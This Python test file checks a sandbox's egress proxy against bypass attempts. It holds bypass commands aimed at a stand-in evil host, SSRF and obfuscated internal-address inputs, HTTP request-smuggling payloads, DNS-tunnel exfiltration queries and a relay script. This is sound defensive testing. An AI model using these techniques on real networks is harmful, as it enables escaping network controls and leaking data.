# SPDX-License-Identifier: Apache-2.0
"""
Rows 63 to 83: the network through the door, on an internet of the test's own (tests/egress/e2e/internet.py). What counts is
what the servers heard: each act reaches its target outside; inside, nothing of it may arrive.
"""

import os
import shlex
import shutil
import signal
import socket
import struct
import subprocess
import sys
import time

from lib import FAMILY, Fail, Skip, answers, case

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "egress", "e2e"))
import servers  # noqa: E402
from internet import PACKAGES  # noqa: E402

GOOD, EVIL = "good.example.org", "evil.example.net"
NET = ["--net", "allowlist", "--allow-host", "*.example.org"]
PY = "/usr/bin/python3"
PROXY = "63128"
INTERNAL = (servers.ROUTER, servers.METADATA, servers.HOST, "127.0.0.1", "::1")
OUT = (servers.EVIL, servers.EVIL6, servers.DOH, *INTERNAL)

# Acts that are made side by side in one start; each of them mostly waits.
AT_ONCE = 8


def egress(row, title, *controls, **kw):
    """A case; what kept() and passes() were given is done inside when it ends."""
    def add(fn):
        def whole(t):
            t.later = {}
            fn(t)
            if not t.suite.outside_only:
                inside(t)
        return case(row, title, "net.egress", *controls, tiers=("native",), slow=True, **kw)(whole)
    return add


def begin(t):
    t.asked = 0
    return t.internet()


def need(*programs):
    for p in programs:
        if not shutil.which(p, path="/usr/local/bin:/usr/bin:/bin"):
            raise Skip(f"'{p}' is not installed (apt-get install {PACKAGES.get(p, p)})")


def heard(w, mark, at=OUT):
    """What arrived where nothing should."""
    return [x for x in w.seen(mark) if x.get("at") in at or "evil" in x.get("name", "")]


def reaches(t, w, act, at):
    """Does it get there without a wall? It need not end for that."""
    mark = w.mark()
    p, end = t.popen(t.cmd(act), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL), None
    while not heard(w, mark, at) and (end is None or time.monotonic() < end):
        if p.poll() is not None and end is None:
            end = time.monotonic() + 1
        time.sleep(0.02)
    if p.poll() is None:
        os.killpg(p.pid, signal.SIGKILL)
        p.wait()
    time.sleep(0.05)  # what came late is not what comes next
    return bool(heard(w, mark, at))


def kept(t, w, act, opts=NET, outside=None, at=OUT, says=None):
    """`act` reaches a server outside and none inside. Outside is the same before every wall: each act is made there once."""
    t.asked += 1
    key = (t.identity, t.case.row, t.case.title, t.asked)
    if key not in t.suite.reached:
        t.suite.reached[key] = reaches(t, w, act if outside is None else outside, at)
    if not t.suite.reached[key]:
        t.skip_act(f"{t.say(act)}: reaches nobody outside as well")
        return
    t.acts += 1
    t.later.setdefault((tuple(opts), at), []).append((act, says))


def passes(t, w, act, opts=NET, says="hello"):
    t.later.setdefault((tuple(opts), None), []).append((act, says))


def together(t, acts, opts, at_once=AT_ONCE):
    """All acts in one start, several at once: what each said, and the run as a whole."""
    lines = ["mkdir -p /tmp/said"]
    for n, act in enumerate(acts):
        lines.append(f"(exec {shlex.join(t.cmd(act))}) >/tmp/said/{n} 2>&1 </dev/null &")
        if (n + 1) % at_once == 0:
            lines.append("wait")
    lines += ["wait", *[f"printf '\\n@@ begin {n}\\n'; cat /tmp/said/{n}; printf '\\n@@ end {n} 0\\n'" for n in range(len(acts))]]
    path = t.file(f"{t.base}/bin/acts-{t.runs}.sh", "\n".join(lines) + "\nexit 0\n")
    r = t.bawn(("/bin/sh", path), opts, timeout=60 + 10 * len(acts))
    found = answers(r.out)[0]
    if len(found) != len(acts):
        raise Fail(f"{len(acts) - len(found)} of {len(acts)} acts did not end: {r}")
    return [found[n].out for n in range(len(acts))], r


def inside(t):
    """What waits, one start for all acts with the same options and the same servers that must not hear of them."""
    for (opts, at), todo in t.later.items():
        mark = t.world.mark()
        said, r = together(t, [act for act, _ in todo], list(opts))
        time.sleep(0.05)
        got = heard(t.world, mark, at) if at else []
        if got:
            t.failed.append(f"{'; '.join(t.say(act) for act, _ in todo)[:600]}: it arrived: {got[:2]}; {r}")
        for (act, says), text in zip(todo, said):
            if says and says not in text:
                t.failed.append(f"{t.say(act)}: does not say '{says}': {text[-200:]!r} {r}")


def talk(t, *pieces, port=PROXY, host="127.0.0.1"):
    hexed = " ".join((p if isinstance(p, bytes) else p.encode("latin-1")).hex() for p in pieces)
    return f"{t.probe} talk {host} {port} {hexed}"


def get(host, path="/"):
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"


def direct(host, port=80):
    need("curl")
    return f"curl -sm5 http://{host}:{port}/"


# ---- no way around --------------------------------------------------------------------------------------------------

@egress(63, "proxy variables unset or forged, raw connections")
def _(t):
    need("curl")
    w = begin(t)
    for act in (f"curl -sm10 http://{EVIL}/", f"curl -sm10 --noproxy '*' http://{EVIL}/",
                f"env -i /usr/bin/curl -sm10 http://{EVIL}/", f"curl -sm10 -x '' http://{servers.EVIL}/",
                f"curl -gsm10 --noproxy '*' http://[{servers.EVIL6}]/",
                f"NO_PROXY='*' no_proxy='*' curl -sm10 http://{EVIL}/",
                f"curl -ksm10 --noproxy '*' --resolve {EVIL}:443:{servers.EVIL} https://{EVIL}/"):
        kept(t, w, act)
    for a in (servers.EVIL, servers.EVIL6, "::ffff:" + servers.EVIL):
        kept(t, w, ["tcp", a, 25])
        kept(t, w, ["fastopen", a, 25])
    kept(t, w, f"curl -sm10 -x http://{servers.EVIL}:8080 http://x.test/")
    kept(t, w, f"curl -sm10 -x socks5://{servers.EVIL}:8080 http://x.test/")


@egress(63, "datagrams and QUIC")
def _(t):
    w = begin(t)
    for port in (53, 123, 443, 5353):
        kept(t, w, ["udp", servers.EVIL, port])
        kept(t, w, ["udp", servers.DOH, port])


@egress(63, "what is allowed is reached by programs that know no proxy")
def _(t):
    need("curl")
    w = begin(t)
    kept(t, w, f"curl -sm10 --noproxy '*' http://{EVIL}/")
    passes(t, w, f"curl -sSm40 --noproxy '*' http://{GOOD}/")
    passes(t, w, f"curl -4 -sSm40 --noproxy '*' http://{GOOD}/")
    passes(t, w, f"curl -6 -sSm40 --noproxy '*' http://{GOOD}/")


@egress(64, "an empty list allows nothing, a missing policy is no permission")
def _(t):
    need("curl")
    w = begin(t)
    for way in ("", "--noproxy '*'"):
        kept(t, w, f"curl -sm10 {way} http://{EVIL}/", ["--net", "allowlist"])
        kept(t, w, f"curl -sm10 {way} http://{EVIL}/", ["--net", "deny"])
        kept(t, w, f"curl -sm10 {way} http://{EVIL}/", ["--net", "closed"])
        kept(t, w, f"curl -sm10 {way} http://{EVIL}/", [])
    if t.suite.outside_only:
        return
    for opts in (["--policy", t.base + "/no-such.yaml"], ["--net", "allowlist", "--allow-host", ""],
                 ["--net", "allowlist", "--allow-host", "*.org"], ["--net", "none-such"]):
        r = t.bawn(f"curl -sm10 http://{EVIL}/", opts, refused=True)
        if r.code != 125:
            raise Fail(f"{opts}: {r}")


def socks5(address, port):
    return b"\x05\x01\x00", b"\x05\x01\x00" + address + struct.pack("!H", port)


@egress(65, "every way in passes the same check")
def _(t):
    w = begin(t)
    plain = direct(EVIL)
    name = EVIL.encode()
    v4, v6 = socket.inet_aton(servers.EVIL), socket.inet_pton(socket.AF_INET6, servers.EVIL6)
    ways = {
        "absolute-form": [f"GET http://{EVIL}/ HTTP/1.1\r\nHost: {EVIL}\r\n\r\n"],
        "CONNECT": [f"CONNECT {EVIL}:80 HTTP/1.1\r\nHost: {EVIL}:80\r\n\r\n", get(EVIL)],
        "CONNECT to an address": [f"CONNECT {servers.EVIL}:80 HTTP/1.1\r\nHost: {servers.EVIL}:80\r\n\r\n", get(EVIL)],
        "CONNECT to IPv6": [f"CONNECT [{servers.EVIL6}]:80 HTTP/1.1\r\nHost: [{servers.EVIL6}]:80\r\n\r\n", get(EVIL)],
        "origin-form": [get(EVIL)],
        "SOCKS4": [b"\x04\x01\x00\x50" + v4 + b"u\x00", get(EVIL)],
        "SOCKS4a": [b"\x04\x01\x00\x50\x00\x00\x00\x01u\x00" + name + b"\x00", get(EVIL)],
        "SOCKS5 IPv4": [*socks5(b"\x01" + v4, 80), get(EVIL)],
        "SOCKS5 IPv6": [*socks5(b"\x04" + v6, 80), get(EVIL)],
        "SOCKS5 name": [*socks5(b"\x03" + bytes([len(name)]) + name, 80), get(EVIL)],
    }
    for pieces in ways.values():
        kept(t, w, talk(t, *pieces), outside=plain)
    kept(t, w, talk(t, get(EVIL), host=servers.EVIL, port=80))
    kept(t, w, talk(t, get(EVIL), host=servers.GOOD, port=80), outside=plain)
    g = GOOD.encode()
    passes(t, w, talk(t, f"GET http://{GOOD}/ HTTP/1.1\r\nHost: {GOOD}\r\n\r\n"))
    passes(t, w, talk(t, f"CONNECT {GOOD}:80 HTTP/1.1\r\nHost: {GOOD}:80\r\n\r\n", get(GOOD)))
    passes(t, w, talk(t, *socks5(b"\x03" + bytes([len(g)]) + g, 80), get(GOOD)))
    passes(t, w, talk(t, b"\x04\x01\x00\x50\x00\x00\x00\x01u\x00" + g + b"\x00", get(GOOD)))


@egress(66, "host names with bytes that do not belong there")
def _(t):
    w = begin(t)
    kept(t, w, direct(EVIL), outside=direct(EVIL))
    if t.suite.outside_only:
        return
    mark, acts = w.mark(), []
    for junk in ("\0", "\r", "\n", "\r\nX: y", " ", "%00", "@", "\\", "#", "\t", "/", "?", "%2e", ":80@"):
        for name in (f"{GOOD}{junk}.{EVIL}", f"{EVIL}{junk}{GOOD}"):
            raw = name.encode("latin-1")
            acts += [talk(t, *socks5(b"\x03" + bytes([len(raw)]) + raw, 80), get(EVIL)),
                     talk(t, f"CONNECT {name}:80 HTTP/1.1\r\nHost: {name}:80\r\n\r\n", get(EVIL)),
                     talk(t, b"\x04\x01\x00\x50\x00\x00\x00\x01u\x00" + raw + b"\x00", get(EVIL))]
    for long in ("a" * 255, "a" * 64 + ".example.org", ".".join(["a" * 60] * 5) + ".example.org"):
        acts += [talk(t, *socks5(b"\x03" + bytes([min(len(long), 255)]) + long.encode(), 80)),
                 talk(t, f"CONNECT {long}:80 HTTP/1.1\r\nHost: {long}:80\r\n\r\n")]
    together(t, acts, NET)
    asked = [x["name"] for x in w.seen(mark, who="dns")]
    if asked or heard(w, mark):
        raise Fail(f"asked for {asked}, heard {heard(w, mark)}")


@egress(67, "names that only look like an allowed one")
def _(t):
    need("curl")
    w = begin(t)
    only = ["--net", "allowlist", "--allow-host", GOOD]
    below = ["--net", "allowlist", "--allow-host", ".example.org"]
    look = ("evil-good.example.org", f"{GOOD}.evil.example.net", "xgood.example.org", "x.good.example.org",
            "good.example.org.evil.example.net.", "g\u043e\u043ed.example.org", "xn--gd-vlc7b.example.org")
    if not t.suite.outside_only and t.host(f"curl -sfm10 http://{look[0]}/").code:
        raise Skip("the server has no such names: its records are in tests/egress/e2e/servers.py")
    t.acts += 2 * len(look)
    if t.suite.outside_only:
        return
    mark = w.mark()
    _, r = together(t, [f"curl -sm10 {way} http://{name}/" for name in look for way in ("", "--noproxy '*'")], only)
    if w.seen(mark):
        t.failed.append(f"{w.seen(mark)[:2]} {r}")
    for name in ("GOOD.EXAMPLE.ORG", "good.example.org.", "GoOd.ExAmPlE.oRg."):
        for way in ("", "--noproxy '*'"):
            passes(t, w, f"curl -sSm40 {way} http://{name}/", only)
    mark = w.mark()
    t.bawn("curl -sm10 http://example.org/", below)
    if w.seen(mark):
        t.failed.append("'.example.org' lets example.org through")
    passes(t, w, "curl -sSm40 http://x.example.org/", below)
    r = t.bawn("true", ["--net", "allowlist", "--allow-host", "*.com"], refused=True)
    if r.code != 125:
        t.failed.append(f"'*.com' is taken: {r}")


# ---- addresses ------------------------------------------------------------------------------------------------------

SPECIAL4 = ("127.0.0.1", "127.0.0.53", "0.0.0.0", "10.77.0.2", "10.77.0.1", "172.16.0.1", "192.168.1.1", "100.64.0.1",
            "169.254.169.254", "192.0.0.8", "198.18.0.1", "198.51.100.1", "224.0.0.1", "240.0.0.1", "255.255.255.255",
            "168.63.129.16", "100.100.100.200")
SPECIAL6 = ("::", "::1", "fc00::1", "fd00:ec2::254", "fe80::1", "ff02::1", "::ffff:127.0.0.1", "::ffff:10.77.0.2",
            "::127.0.0.1", "64:ff9b::7f00:1", "64:ff9b::a4d:2", "2002:7f00:1::", "2002:a4d:2::1", "2001:db8::1", "100::1")


@egress(68, "an allowed name that leads to an internal address")
def _(t):
    need("curl")
    w = begin(t)
    names = ["ip-%s.example.org" % socket.inet_aton(a).hex() for a in SPECIAL4]
    names += ["ip6-%s.example.org" % socket.inet_pton(socket.AF_INET6, a).hex() for a in SPECIAL6]
    reach = [n for n in names if any(x in n for x in ("7f000001", "0a4d0002", "a9fea9fe", "0a4d0001"))]
    for n in reach:
        kept(t, w, f"curl -sm5 http://{n}/", at=INTERNAL)
    if t.suite.outside_only:
        return
    for mode in (NET, ["--net", "open"]):
        for way in ("", "--noproxy '*'"):
            mark = w.mark()
            r = together(t, [f"curl -so /dev/null -m10 {way} -w '{n} %{{http_code}}\\n' http://{n}/" for n in names], mode)[1]
            if heard(w, mark, INTERNAL) or " 200" in r.out:
                t.failed.append(f"{mode} {way}: {heard(w, mark, INTERNAL)[:3]} {r.out[-300:]}")


@egress(69, "rebinding, mixed answers, chains")
def _(t):
    need("curl")
    w = begin(t)
    kept(t, w, "for i in 1 2 3 4; do curl -sm10 http://rebind-a.example.org/; done", at=INTERNAL)
    kept(t, w, "curl -sm10 http://chainbad.example.org/", at=INTERNAL)
    if t.suite.outside_only:
        return
    for way in ("", "--noproxy '*'"):
        mark = w.mark()
        t.bawn("; ".join(f"curl -sm10 {way} http://{n}.example.org/" for n in
                         ["rebind-b"] * 8 + ["mixed"] * 4 + ["mixed6"] * 4 + ["chainbad"]), NET)
        if heard(w, mark, INTERNAL):
            t.failed.append(f"{way}: {heard(w, mark, INTERNAL)}")
        passes(t, w, f"curl -sSm40 {way} http://chain.example.org/")


@egress(70, "every spelling of an internal address")
def _(t):
    need("curl")
    w = begin(t)
    kept(t, w, "curl -sm5 http://10.77.0.2/", at=INTERNAL)
    kept(t, w, "curl -sm5 http://169.254.169.254/", at=INTERNAL)
    if t.suite.outside_only:
        return
    spelled = ("0x7f000001", "0177.0.0.1", "2130706433", "127.1", "127.0.1", "0x7f.1", "0x0a4d0002", "172818434",
               "10.77.2", "012.0115.0.2", "0xa9fea9fe", "2852039166", "0", "127.0.0.1.", "10.77.0.2.",
               "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "[::ffff:a4d:2]", "[::1]",
               "[::]", "[fe80::1%25lo]", "[::127.0.0.1]", "\uff11\uff12\uff17.0.0.1", "127\u30020\u30020\u30021")
    for mode in (NET, ["--net", "open"]):
        mark = w.mark()
        acts = [talk(t, f"GET http://{s}/ HTTP/1.1\r\nHost: {s}\r\n\r\n".encode("utf-8").decode("latin-1")) for s in spelled]
        acts += [talk(t, f"CONNECT {s}:80 HTTP/1.1\r\nHost: {s}:80\r\n\r\n".encode("utf-8").decode("latin-1"), get("x"))
                 for s in spelled]
        for a, said in zip(acts, together(t, acts, mode)[0]):
            if "internal" in said:
                t.failed.append(f"{a}: {said[-200:]}")
        if heard(w, mark, INTERNAL):
            t.failed.append(f"{mode}: {heard(w, mark, INTERNAL)}")


@egress(71, "redirects are new requests")
def _(t):
    need("curl")
    w = begin(t)
    for url in (f"http://{EVIL}/", "http://10.77.0.2/", "http://169.254.169.254/latest/", "http://10.77.0.1:8099/"):
        for way in ("--noproxy x", "--noproxy '*'"):
            kept(t, w, f"curl -sLm10 {way} 'http://{GOOD}/redirect?to={url}'", outside=f"curl -sm10 {url}")


# ---- what is said inside must agree ----------------------------------------------------------------------------------

def s_client(host, sni, request_host=None, port=443):
    name = f"-servername {sni}" if sni else "-noservername"
    return (f"printf 'GET / HTTP/1.0\\r\\nHost: {request_host or host}\\r\\n\\r\\n' | timeout 10 openssl s_client -quiet "
            f"-proxy 127.0.0.1:{PROXY} -connect {host}:{port} {name} 2>&1")


@egress(72, "the name in TLS must be the one asked for")
def _(t):
    need("openssl", "curl")
    w = begin(t)
    plain = f"curl -ksm10 https://{EVIL}/"
    kept(t, w, s_client(GOOD, EVIL, EVIL), outside=plain)
    kept(t, w, s_client(EVIL, GOOD, GOOD), outside=plain)
    if t.suite.outside_only:
        return
    mark = w.mark()
    for said in together(t, [s_client(GOOD, EVIL), s_client(GOOD, "x.example.org"), s_client(GOOD, None)], NET)[0]:
        if "hello" in said or w.seen(mark, who="http"):
            t.failed.append(f"a name in TLS that nobody asked for: {said}")
    passes(t, w, s_client(GOOD, GOOD))
    one, others = f"GET http://{GOOD}/ HTTP/1.1\r\nHost: {GOOD}\r\n\r\n", (EVIL, "10.77.0.2")
    mark = w.mark()
    for said in together(t, [talk(t, one, f"GET http://{x}/ HTTP/1.1\r\nHost: {x}\r\n\r\n") for x in others], NET)[0]:
        if "hello" not in said or heard(w, mark):
            t.failed.append(f"second request: {said} {heard(w, mark)}")
    mark = w.mark()
    for said in together(t, [talk(t, f"GET http://{GOOD}/ HTTP/1.1\r\nHost: {x}\r\n\r\n") for x in others], NET)[0]:
        if "hello" in said or heard(w, mark) or any(w.seen(mark, host=x) for x in others):
            t.failed.append(f"Host is not the authority: {said}")
    t.skip_act("HTTP/2 :authority: TLS is passed through and not opened")


SMUGGLED = {
    "CL and TE": "POST {u} HTTP/1.1\r\nHost: {h}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + "{s}",
    "two Host": "GET {u} HTTP/1.1\r\nHost: {h}\r\nHost: evil.example.net\r\n\r\n",
    "two lengths": "POST {u} HTTP/1.1\r\nHost: {h}\r\nContent-Length: 0\r\nContent-Length: 9\r\n\r\n{s}",
    "folded": "POST {u} HTTP/1.1\r\nHost: {h}\r\nX: y\r\n Transfer-Encoding: chunked\r\n\r\n{s}",
    "bare LF": "POST {u} HTTP/1.1\nHost: {h}\nContent-Length: 0\n\n{s}",
    "chunk extension": "POST {u} HTTP/1.1\r\nHost: {h}\r\nTransfer-Encoding: chunked\r\n\r\n0;x=\n\r\n\r\n{s}",
    "TE twice": "POST {u} HTTP/1.1\r\nHost: {h}\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{s}",
    "odd TE": "POST {u} HTTP/1.1\r\nHost: {h}\r\nTransfer-Encoding: xchunked\r\n\r\n{s}",
    "blank before colon": "POST {u} HTTP/1.1\r\nHost: {h}\r\nTransfer-Encoding : chunked\r\n\r\n{s}",
    "signed length": "POST {u} HTTP/1.1\r\nHost: {h}\r\nContent-Length: +0\r\n\r\n{s}",
    "NUL": "GET {u} HTTP/1.1\r\nHost: {h}\r\nX: a\0b\r\n\r\n",
    "giant": "GET {u} HTTP/1.1\r\nHost: {h}\r\n" + "X: " + "y" * 20000 + "\r\nZ: " + "y" * 20000 + "\r\n\r\n",
}


@egress(73, "request smuggling")
def _(t):
    w = begin(t)
    kept(t, w, direct(EVIL), outside=direct(EVIL))
    if t.suite.outside_only:
        return
    second = f"GET http://{GOOD}/smuggled HTTP/1.1\r\nHost: {GOOD}\r\n\r\n"
    mark = w.mark()
    said, r = together(t, [talk(t, form.format(u=f"http://{GOOD}/first", h=GOOD, s=second)) for form in SMUGGLED.values()], NET)
    for what, text in zip(SMUGGLED, said):
        # what is read in one way only may pass; two requests out of one may not
        if "hello" in text:
            t.failed.append(f"{what}: {text[-200:]!r}")
    if w.seen(mark, who="http"):
        t.failed.append(f"{w.seen(mark, who='http')[:2]} {r}")


@egress(74, "ports, and bytes that are no TLS")
def _(t):
    w = begin(t)
    for port in (22, 25, 8080):
        kept(t, w, talk(t, f"CONNECT {GOOD}:{port} HTTP/1.1\r\nHost: {GOOD}:{port}\r\n\r\n", "x\r\n"), at=(servers.GOOD,),
             outside=f"{t.probe} tcp {servers.GOOD} {port if port != 8080 else 25}")
        kept(t, w, f"{PY} -c 'import socket; socket.create_connection((\"{GOOD}\", {port}), 5).sendall(b\"x\")'",
             at=(servers.GOOD, servers.GOOD6), outside=f"{t.probe} tcp {servers.GOOD} {port if port != 8080 else 25}")
    if t.suite.outside_only:
        return
    mark, junk = w.mark(), (get(GOOD), "SSH-2.0-x\r\n", "\x16\x03", "\0" * 100)
    for j, said in zip(junk, together(t, [talk(t, f"CONNECT {GOOD}:443 HTTP/1.1\r\nHost: {GOOD}:443\r\n\r\n", j)
                                          for j in junk], NET)[0]):
        if w.seen(mark, who="http") or "hello" in said:
            t.failed.append(f"{j!r}: {said}")


@egress(75, "a proxy behind the proxy")
def _(t):
    w = begin(t)
    loop = f"CONNECT 127.0.0.1:{PROXY} HTTP/1.1\r\nHost: 127.0.0.1:{PROXY}\r\n\r\n"
    evil = f"CONNECT {EVIL}:80 HTTP/1.1\r\nHost: {EVIL}:80\r\n\r\n"
    kept(t, w, talk(t, loop, evil, get(EVIL)), outside=direct(EVIL))
    kept(t, w, talk(t, f"CONNECT {GOOD}:80 HTTP/1.1\r\nHost: {GOOD}:80\r\n\r\n", evil, get(EVIL)), outside=direct(EVIL))
    relay = (f"{PY} -c 'import socket\nl = socket.create_server((\"127.0.0.1\", 9999))\n"
             "while 1:\n c = l.accept()[0]\n"
             f" try:\n  s = socket.create_connection((\"{servers.EVIL}\", 80), 5); s.sendall(c.recv(9999)); c.sendall(s.recv(9999))\n"
             " except OSError: c.close()' & sleep 0.5; " + talk(t, get(EVIL), port=9999) + "; kill $!")
    kept(t, w, relay)


@egress(76, "names as a way out")
def _(t):
    need("curl")
    w = begin(t)
    label = "c2VjcmV0" * 7
    for act in (f"getent hosts secret.{EVIL}", f"getent ahosts {label}.{EVIL}",
                f"{PY} -c 'import socket; socket.getaddrinfo(\"secret2.{EVIL}\", 80)'"):
        kept(t, w, act)
    for kind in (1, 5, 15, 16, 28, 65, 255):
        q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + servers.pack_name(f"{label}.{EVIL}") + \
            struct.pack("!HH", kind, 1)
        code = f"{t.probe} ask {{}} 53 {q.hex()}"
        kept(t, w, code.format("127.0.0.1"), outside=code.format(servers.DNS))
        kept(t, w, code.format(servers.DNS))
        kept(t, w, code.format(servers.DOH))
        kept(t, w, talk(t, struct.pack("!H", len(q)) + q, port=53), outside=code.format(servers.DNS))
    kept(t, w, f"curl -ksm10 https://{servers.DOH}/dns-query")
    kept(t, w, f"curl -ksm10 --noproxy '*' https://{servers.DOH}/dns-query")
    kept(t, w, ["tcp", servers.DOH, 853])
    kept(t, w, ["tcp", servers.DOH, 53])
    for form in (f"GET http://secret.{EVIL}/ HTTP/1.1\r\nHost: secret.{EVIL}\r\n\r\n",
                 f"CONNECT secret.{EVIL}:443 HTTP/1.1\r\nHost: secret.{EVIL}:443\r\n\r\n"):
        kept(t, w, talk(t, form), outside=f"getent hosts secret.{EVIL}")


@egress(77, "multicast names, time, echo requests")
def _(t):
    w = begin(t)
    for a, p in ((servers.EVIL, 5353), (servers.EVIL, 123)):
        kept(t, w, ["udp", a, p])
    if t.suite.outside_only:
        return
    groups = (("224.0.0.251", 5353), ("ff02::fb", 5353), ("224.0.0.252", 5355), ("255.255.255.255", 9))
    for a, r in zip(groups, t.many([["udp", *a] for a in groups], NET)):
        if r is None or r.what == "ok":
            t.failed.append(f"{a} was sent: {r}")
    t.attacks([["socket", "inet", "raw", 1], ["socket", "inet6", "raw", 58]], errs=FAMILY, opts=NET)


@egress(78, "methods, paths and budgets on an allowed host")
def _(t):
    need("curl")
    w = begin(t)
    rule = ["--net", "allowlist", "--allow-host", f"GET {GOOD}/repo/**"]
    for way in ("", "--noproxy '*'"):
        for act in (f"-X POST -d secret http://{GOOD}/repo/x", f"http://{GOOD}/gist", f"-X PUT -d x http://{GOOD}/repo/x",
                    f"--path-as-is http://{GOOD}/repo/../gist", f"http://{GOOD}/repo/%2e%2e/gist",
                    f"-k https://{GOOD}/repo/x"):
            kept(t, w, f"curl -sm10 {way} {act}", rule, at=(servers.GOOD, servers.GOOD6))
        passes(t, w, f"curl -sSm40 {way} http://{GOOD}/repo/x", rule)
    if t.suite.outside_only:
        return
    budget = ["--policy", t.file(t.base + "/budget.yaml", "network: {host_bytes: 100k}\n")]
    mark = w.mark()
    t.bawn(f"head -c 50000 /dev/zero > /tmp/x; for i in 1 2 3 4 5 6 7 8; do curl -sm10 -o /dev/null --data-binary @/tmp/x "
           f"http://{GOOD}/; done", NET + budget)
    sent = sum(x["body"] for x in w.seen(mark, who="http"))
    if not 50000 <= sent <= 150000:
        t.failed.append(f"a budget of 100k let {sent} bytes through")


@egress(81, "many and slow connections starve nobody")
def _(t):
    need("curl")
    w = begin(t)
    kept(t, w, direct(EVIL), outside=direct(EVIL))
    if t.suite.outside_only:
        return
    slow = (f"{PY} -c 'import socket, time\ns = []\nfor i in range(1500):\n try:\n  c = socket.create_connection((\"127.0.0.1\", "
            f"{PROXY}), 20); c.sendall(b\"GET http://{GOOD}/ HTTP/1.1\\r\\nX: \"); s.append(c)\n except OSError: break\n"
            "print(len(s), flush=True); time.sleep(300)'")
    other = t.popen(t.bawn_argv(slow, NET + ["--files", "4096"])[0])
    line = other.stdout.readline()
    if int(line or 0) < 100:
        raise Fail(f"only {line!r} connections")
    passes(t, w, f"curl -sSm40 http://{GOOD}/")
    other.terminate()
    other.wait()
    passes(t, w, slow.replace("time.sleep(300)", "[c.close() for c in s[:1400]]") + f"; curl -sSm40 http://{GOOD}/",
           NET + ["--files", "4096"])
    passes(t, w, f"curl -sSm120 'http://{GOOD}/big?n=30000000' | wc -c", says="30000000")


def door_of(pid):
    for p in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{p}/stat") as f:
                name, rest = f.read().split("(", 1)[1].rsplit(")", 1)
            if name == "bawn-egress" and int(rest.split()[1]) == pid:
                return int(p)
        except OSError:
            pass
    return 0


def await_door(pid):
    end = time.monotonic() + 60
    while time.monotonic() < end:
        door = door_of(pid)
        if door:
            return door
        time.sleep(0.02)
    raise Fail("no door appeared")


@egress(83, "the door dies: nothing goes out, nothing hangs")
def _(t):
    need("curl")
    w = begin(t)
    kept(t, w, direct(EVIL), outside=direct(EVIL))
    if t.suite.outside_only:
        return
    acts = "; ".join(f"curl -sm10 {way} http://{h}/; echo $?" for way in ("", "--noproxy '*'")
                     for h in (GOOD, EVIL, servers.GOOD, servers.EVIL, "10.77.0.2"))
    argv, result = t.bawn_argv(f"touch up; while [ ! -e dead ]; do sleep 0.05; done; {acts}; echo over", NET)
    p = t.popen(argv)
    while not os.path.exists(t.ws + "/up") and p.poll() is None:
        time.sleep(0.02)
    mark = w.mark()
    os.kill(await_door(p.pid), signal.SIGKILL)
    time.sleep(0.2)
    t.file(t.ws + "/dead")
    r = t.finish(p, 60, result)
    if w.seen(mark) or "over" not in r.out or "hello" in r.out:
        raise Fail(f"{w.seen(mark)[:2]} {r}")
    if not (r.json.get("network") or {}).get("lost"):
        raise Fail(f"the result does not say it: {r.json.get('network')}")


@egress(83, "bawn dies: door and command end")
def _(t):
    w = begin(t)
    kept(t, w, direct(EVIL), outside=direct(EVIL))
    if t.suite.outside_only:
        return
    marker = f"marker-{os.path.basename(t.base)}-{os.getpid()}"
    p = t.popen(t.bawn_argv(f"sleep 60; echo {marker}", NET)[0])
    door = await_door(p.pid)
    os.kill(p.pid, signal.SIGKILL)
    p.wait()
    t.no_survivor(marker)
    end = time.monotonic() + 60
    while os.path.exists(f"/proc/{door}") and time.monotonic() < end:
        time.sleep(0.05)
    if os.path.exists(f"/proc/{door}"):
        raise Fail("the door lives on")


@egress(62, "another sandbox's door")
def _(t):
    """No port on the host, and none that another sandbox could reach."""
    need("curl")
    w = begin(t)
    kept(t, w, direct(EVIL), outside=direct(EVIL))
    if t.suite.outside_only:
        return
    p = t.popen(t.bawn_argv("touch up; sleep 600", NET)[0])
    while not os.path.exists(t.ws + "/up") and p.poll() is None:
        time.sleep(0.02)
    for address in ("127.0.0.1", "[::1]", "10.77.0.1"):
        for port in (PROXY, int(PROXY) + 1):
            if t.host(f"curl -gsm3 -x http://{address}:{port} http://{GOOD}/").out:
                t.failed.append(f"the door is at {address}:{port} of the host")
    mark = w.mark()
    r = t.bawn(f"curl -sm5 -x http://127.0.0.1:{PROXY} http://{GOOD}/", ["--net", "allowlist", "--allow-host", "x.test"])
    if "hello" in r.out or w.seen(mark, who="http"):
        t.failed.append(f"one sandbox used the door of another: {r}")
    p.terminate()
    p.wait()
